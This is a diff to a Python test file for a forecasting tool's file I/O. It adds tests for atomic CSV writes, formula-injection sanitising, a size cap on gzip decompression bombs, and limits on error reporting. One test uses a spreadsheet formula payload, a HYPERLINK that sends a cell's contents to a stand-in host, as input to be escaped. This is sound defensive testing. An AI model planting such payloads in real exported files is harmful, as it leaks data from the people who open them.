@@ -39,16 +39,17 @@ def test_missing_file_is_reported(tmp_path):
         load_history(tmp_path / "nope.csv")
 
 
-def test_write_csv_atomic_leaves_no_partial_file(tmp_path):
-    class Boom:
-        def to_csv(self, path, **kwargs):
-            with open(path, "w") as fh:
-                fh.write("partial")
-            raise RuntimeError("disk full")
+def test_write_csv_atomic_leaves_no_partial_file(tmp_path, monkeypatch):
+    def boom(self, path, **kwargs):
+        with open(path, "w") as fh:
+            fh.write("partial")
+        raise RuntimeError("disk full")
 
     target = tmp_path / "out.csv"
-    with pytest.raises(RuntimeError):
-        write_csv_atomic(Boom(), target)
+    with monkeypatch.context() as m:
+        m.setattr(pd.DataFrame, "to_csv", boom)
+        with pytest.raises(RuntimeError):
+            write_csv_atomic(pd.DataFrame({"a": ["x"]}), target)
     assert not target.exists()
     assert list(tmp_path.iterdir()) == []
     write_csv_atomic(pd.DataFrame({"a": [1]}), target)
@@ -84,3 +85,44 @@ def test_a_written_file_has_the_mode_of_an_ordinary_new_file(tmp_path):
     finally:
         os.umask(mask)
     assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o640
+
+
+def test_every_text_cell_is_made_formula_safe_and_numbers_stay_numbers(tmp_path):
+    df = pd.DataFrame(
+        {
+            "events": ['=HYPERLINK("http://x.example/?"&A1;"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "Black Friday", ""],
+            "text_number": ["-3", "+1.5e3", "-0.25", "1", "-", "2", "3", "4"],
+            "volume": [-3.5, 1.0, -2.0, 0.0, 4.0, 5.0, 6.0, 7.0],
+        }
+    )
+    path = write_csv_atomic(df, tmp_path / "t.csv")
+    back = pd.read_csv(path, keep_default_na=False, dtype={"events": str, "text_number": str})
+    assert back["events"].tolist() == [
+        '\'=HYPERLINK("http://x.example/?"&A1;"click")', "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "'\nx", "Black Friday", "",
+    ]
+    assert back["text_number"].tolist() == ["-3", "+1.5e3", "-0.25", "1", "'-", "2", "3", "4"]
+    assert back["volume"].tolist() == [-3.5, 1.0, -2.0, 0.0, 4.0, 5.0, 6.0, 7.0]
+
+
+def test_a_gzip_file_is_capped_on_its_uncompressed_size(tmp_path, monkeypatch):
+    from forecast.io import files
+
+    monkeypatch.setattr(files, "MAX_FILE_BYTES", 1_000_000)
+    row = "2025-06-02T12:00:00Z,voice,America/New_York,10,300\n"
+    path = tmp_path / "h.csv.gz"
+    path.write_bytes(gzip.compress((GOOD + row * 40_000).encode()))  # about 2 MB unpacked, a few kB packed
+    assert path.stat().st_size < 100_000
+    with pytest.raises(InputError, match="h.csv.gz: unpacks to more than 1 MB; the limit is 1 MB of uncompressed data"):
+        load_history(path)
+
+
+def test_problem_collection_stops_after_what_is_shown_and_counts_the_rest(write):
+    from forecast.errors import MAX_PROBLEMS_SHOWN
+
+    bad = "2025-06-02T12:00:00Z,voice,America/New_York,many,300\n" * 5000
+    with pytest.raises(InputError) as info:
+        load_history(write("h.csv", GOOD + bad))
+    err = info.value
+    assert err.total == 5000 and len(err.problems) == MAX_PROBLEMS_SHOWN
+    assert [p.line for p in err.problems] == list(range(6, 6 + MAX_PROBLEMS_SHOWN))
+    assert str(err).endswith("... and 4,980 more problem(s)")
